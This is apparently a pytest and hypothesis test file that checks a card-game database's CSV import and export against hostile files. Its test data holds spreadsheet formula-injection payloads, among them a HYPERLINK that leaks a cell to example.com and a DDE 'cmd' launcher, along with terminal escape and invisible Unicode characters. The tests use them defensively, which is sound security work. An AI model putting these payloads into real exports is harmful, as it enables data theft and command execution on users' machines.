"""Hostile card-set CSV files (issue 29): each is imported whole, refused with its row named, or
kept out — never a crash, a garbled name, rows silently merged, or an export that runs
formulas in a spreadsheet."""

from __future__ import annotations

import csv
import io
import time
import unicodedata
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tabletop.cards.database import CardDatabase
from tabletop.cards.safe_text import UNSAFE, printable
from tabletop.storage import card_csv, csv_text
from tabletop.storage.card_csv import write_csv
from tabletop.storage.card_io import CardFileError, describe_problem, plan_import
from tabletop.storage.user_sets import CardValidationError, validate_card

EMPTY = CardDatabase.from_sets([])
HEADER = "set,number,type,name,name_ja,text\r\n"
FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
    "@SUM(A1:A9)",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "'",
    "''",
    "'=1",
    "＝1+1",
    "-2",
    "+7",
]
JAPANESE = ["かめはめ波", "ベジータ", "幽☆遊☆白書", "霊丸", "魔貫光殺砲 Lv2"]
TEXTS = st.one_of(
    st.text(max_size=30),
    st.sampled_from(FORMULAS + JAPANESE),
    st.builds(str.__add__, st.sampled_from(FORMULAS + JAPANESE), st.text(max_size=8)),
)


def _english(context: str, text: str) -> str:
    return text


def _trimmed(value: str) -> str | None:
    """A cell's text as the import reads it: trimmed, left out when empty."""
    return value.strip() or None


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=TEXTS, name_ja=TEXTS, text=TEXTS, note=TEXTS, set_name=TEXTS)
@example(name="=HYPERLINK(1)", name_ja="ゴク\u202e", text="a\x00b", note="", set_name="@SUM(1)")
@example(name="Ka\x1b[31mme", name_ja="", text="", note="", set_name="x")
def test_any_text_round_trips_through_export_and_import_or_is_refused_by_row_and_column(
    name: str, name_ja: str, text: str, note: str, set_name: str
) -> None:
    """Formulas, Japanese, anything: a text the models accept comes back the same (trimmed)
    and no exported cell starts a formula; a control, format or zero-width character is
    refused, naming row 2 and its column."""
    texts = {"name": name, "name_ja": name_ja, "text": text, "note": note}
    given_card: dict[str, Any] = {"id": "ZZT-1", "set": "ZZT", "number": "1", "type": "drill"}
    try:
        card = validate_card("dbgt", given_card | {k: v for k, v in texts.items() if v})
    except CardValidationError:
        rows = [["set", "number", "type", *texts, "set_name"]]
        rows.append(["ZZT", "1", "drill", *texts.values(), set_name])
        out = io.StringIO()
        csv.writer(out).writerows([[csv_text.safe_cell(c) for c in row] for row in rows])
        data = out.getvalue().encode("utf-8")
    else:
        data = write_csv("dbgt", [card], {"ZZT": (set_name, None)})
        for row in _cells(data)[1:]:
            for cell in row:
                starts = bool(cell) and cell[0] in csv_text.FORMULA_STARTS
                assert not starts or csv_text._WHOLE_NUMBER.fullmatch(cell), cell
    plan = plan_import(data, "csv", game="dbgt", database=EMPTY)
    read = {k: _trimmed(v) for k, v in texts.items()}
    expected_data = given_card | {k: v for k, v in read.items() if v is not None}
    try:
        expected = validate_card("dbgt", expected_data)
    except CardValidationError as error:
        assert not plan.ok and not plan.cards
        columns = {p.column for p in plan.problems}
        assert {e.field for e in error.errors} <= columns | {""}
        assert {p.row for p in plan.problems} == {2}
        return
    if UNSAFE.search(_trimmed(set_name) or ""):
        assert [(p.row, p.column, p.code) for p in plan.problems] == [
            (2, "set_name", "unsafe_character")
        ]
        return
    assert plan.ok, [describe_problem(p, "csv", _english) for p in plan.problems]
    assert plan.cards == [(2, expected)]
    assert plan.sets["ZZT"].name == (_trimmed(set_name) or "ZZT")


@pytest.mark.parametrize(
    ("char", "column"),
    [
        ("\x1b", "name"),
        ("\x07", "name_ja"),
        ("\u202e", "name"),
        ("\u200b", "text"),
        ("\x00", "text"),
        ("\ufeff", "name"),
        ("\u2066", "name_ja"),
    ],
)
def test_a_control_or_invisible_character_is_refused_by_row_and_column(
    char: str, column: str
) -> None:
    cells = {"name": "Kame", "name_ja": "かめ", "text": "Power text"}
    cells[column] = cells[column][:2] + char + cells[column][2:]
    row = ",".join(f'"{cells[c]}"' for c in ("name", "name_ja", "text"))
    data = (HEADER + "ZZT,1,drill,Fine,,\r\nZZT,2,drill," + row + "\r\n").encode("utf-8")
    plan = plan_import(data, "csv", game="dbgt", database=EMPTY)
    assert [(p.row, p.column, p.code) for p in plan.problems] == [(3, column, "unsafe_character")]
    assert plan.problems[0].params["character"] == f"U+{ord(char):04X}"
    assert [c.id for _, c in plan.cards] == ["ZZT-1"]


def test_a_utf8_file_with_one_shift_jis_row_is_refused_at_that_row() -> None:
    """Not decoded whole as cp932 (かめはめ波 stored as 縺九ａ縺ｯ…)."""
    data = (HEADER + "ZZT,1,drill,Kamehameha,かめはめ波,\r\n").encode("utf-8")
    data += "ZZT,2,drill,Final Flash,ファイナルフラッシュ,\r\n".encode("cp932")
    data += "ZZT,3,drill,Big Bang,ビッグバン,\r\n".encode()
    with pytest.raises(CardFileError) as refused:
        plan_import(data, "csv", game="dbgt", database=EMPTY)
    assert refused.value.code == "mixed_encoding"
    assert refused.value.params == {"row": 3}


def test_a_whole_shift_jis_file_still_reads() -> None:
    data = (HEADER + "ZZT,1,drill,Kamehameha,かめはめ波,\r\n").encode("cp932")
    plan = plan_import(data, "csv", game="dbgt", database=EMPTY)
    assert plan.ok and plan.cards[0][1].name_ja == "かめはめ波"


def test_a_file_of_no_encoding_names_its_first_bad_row() -> None:
    data = HEADER.encode() + b"ZZT,1,drill,Ok,,\r\nZZT,2,drill,\x82\xff\x82,,\r\n"
    with pytest.raises(CardFileError) as refused:
        plan_import(data, "csv", game="dbgt", database=EMPTY)
    assert (refused.value.code, refused.value.params) == ("not_text", {"row": 3})


@pytest.mark.parametrize(
    ("rows", "row"),
    [
        # the quote of row 3 is never closed: it would swallow rows 4 and 5 into one name
        (
            'ZZT,1,drill,Fine,,\r\nZZT,2,drill,"Kame,,\r\nZZT,3,drill,Big,,\r\nZZT,4,drill,X,,\r\n',
            3,
        ),
        # closed rows later, amid a cell: the strict reader stops there
        ('ZZT,1,drill,"Kame,,\r\nZZT,2,drill,"Big",,\r\n', 2),
        # closed rows later at a cell's end: a cell holding a whole row is refused
        (
            'ZZT,1,drill,Fine,,\r\nZZT,2,drill,"Kame,,\r\nZZT,3,drill,Big,,\r\nZZT,4,drill,X,"",\r\n',
            3,
        ),
    ],
)
def test_an_unclosed_quote_is_reported_at_its_row(rows: str, row: int) -> None:
    with pytest.raises(CardFileError) as refused:
        plan_import((HEADER + rows).encode(), "csv", game="dbgt", database=EMPTY)
    assert refused.value.code in ("unclosed_quote", "bad_quote")
    assert refused.value.params == {"row": row}


def test_a_cell_over_the_csv_limit_is_a_refusal_naming_its_row() -> None:
    data = (HEADER + "ZZT,1,drill,Fine,,\r\nZZT,2,drill," + "x" * 131_073 + ",,\r\n").encode()
    with pytest.raises(CardFileError) as refused:
        plan_import(data, "csv", game="dbgt", database=EMPTY)
    assert refused.value.code == "cell_too_large" and refused.value.params["row"] == 3


def test_a_file_of_more_rows_than_a_set_holds_is_refused_before_any_row_is_checked(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    checked: list[object] = []
    real = card_csv.cells_to_data
    monkeypatch.setattr(card_csv, "cells_to_data", lambda *a: checked.append(a) or real(*a))
    body = "".join(f"ZZT,{n},drill,Drill {n},,\r\n" for n in range(1, 20_001))
    started = time.perf_counter()
    with pytest.raises(CardFileError) as refused:
        plan_import((HEADER + body).encode(), "csv", game="dbgt", database=EMPTY)
    assert time.perf_counter() - started < 2
    assert refused.value.code == "too_many_rows"
    assert refused.value.params == {"row": 5_002, "max": 5_000}
    assert checked == []


def test_a_huge_value_is_quoted_back_short_and_escaped() -> None:
    data = (
        "set,number,type,name,character,level,alignment,pur,stages\r\n"
        f"ZZT,1,personality,P,Goku,{'9' * 100_000},hero,1,0 1\x1b[2J 2\r\n"
    ).encode()
    plan = plan_import(data, "csv", game="dbgt", database=EMPTY)
    messages = [describe_problem(p, "csv", _english) for p in plan.problems]
    assert messages and all(len(m) < 300 and "\x1b" not in m for m in messages)
    assert any("\\u001b" in m for m in messages)


def test_the_unsafe_pattern_is_every_control_format_and_separator_character() -> None:
    categories = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    for code in range(0x110000):
        char = chr(code)
        if (unicodedata.category(char) in categories) != bool(UNSAFE.fullmatch(char)):
            assert unicodedata.category(char) == "Cn", f"U+{code:04X}"  # unassigned in 3.11
    assert printable("a\x1b[31mb\u202ec") == "a\\u001b[31mb\\u202ec"


def test_import_reads_back_the_marks_export_writes_for_the_set_name() -> None:
    card = validate_card(
        "dbgt",
        {
            "id": "ZZT-1",
            "set": "ZZT",
            "number": "1",
            "type": "drill",
            "name": "-2+3+cmd|' /C calc'!A0",
        },
    )
    data = write_csv("dbgt", [card], {"ZZT": ("=HYPERLINK(1)", "@ミ")})
    header, cells = _cells(data)
    row = dict(zip(header, cells, strict=True))
    assert row["name"] == "'-2+3+cmd|' /C calc'!A0"
    assert (row["set_name"], row["set_name_ja"]) == ("'=HYPERLINK(1)", "'@ミ")
    plan = plan_import(data, "csv", game="dbgt", database=EMPTY)
    assert plan.cards[0][1] == card
    assert (plan.sets["ZZT"].name, plan.sets["ZZT"].name_ja) == ("=HYPERLINK(1)", "@ミ")


@pytest.mark.parametrize("blank", ["\t", "\t ", "\t\t", " \t"])
def test_a_guarded_blank_cell_reads_back_empty(blank: str) -> None:
    """A cell of blanks that starts like a formula is written with its guard (``'\\t``) and
    read back empty, not as the guard's apostrophe (hypothesis found ``note='\\t'``)."""
    card = validate_card(
        "dbgt",
        {
            "id": "ZZT-1",
            "set": "ZZT",
            "number": "1",
            "type": "drill",
            "name": "Blank",
            "note": blank,
        },
    )
    plan = plan_import(
        write_csv("dbgt", [card], {"ZZT": (blank, None)}), "csv", game="dbgt", database=EMPTY
    )
    assert plan.ok
    assert plan.cards[0][1].note is None
    assert plan.sets["ZZT"].name == "ZZT"
